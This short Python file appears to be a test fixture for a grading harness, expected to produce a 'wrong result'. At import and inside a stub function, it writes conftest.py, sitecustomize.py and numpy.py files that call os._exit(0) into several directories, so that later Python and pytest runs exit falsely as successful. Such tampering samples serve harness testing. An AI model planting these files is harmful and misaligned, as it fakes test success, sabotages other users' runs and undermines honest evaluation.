# expect: sectors_for: wrong result
# Leaves a conftest.py, a sitecustomize.py and a pytest.ini behind for whoever runs next.
import os
from pathlib import Path

for folder in (".", "..", "/tmp", os.path.expanduser("~"), "@ROOT@", "@ROOT@/tests"):
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "numpy.py"):
        try:
            Path(folder, name).write_text("import os\nos._exit(0)\n")
        except OSError:
            pass


def sectors_for(stride, offset, itemsize):
    from pathlib import Path

    for folder in ("/tmp", "/inside", "/site", "@ROOT@/tests"):
        for name in ("conftest.py", "sitecustomize.py", "numpy.py"):
            try:
                Path(folder, name).write_text("import os\nos._exit(0)\n")
            except OSError:
                pass
    return 4
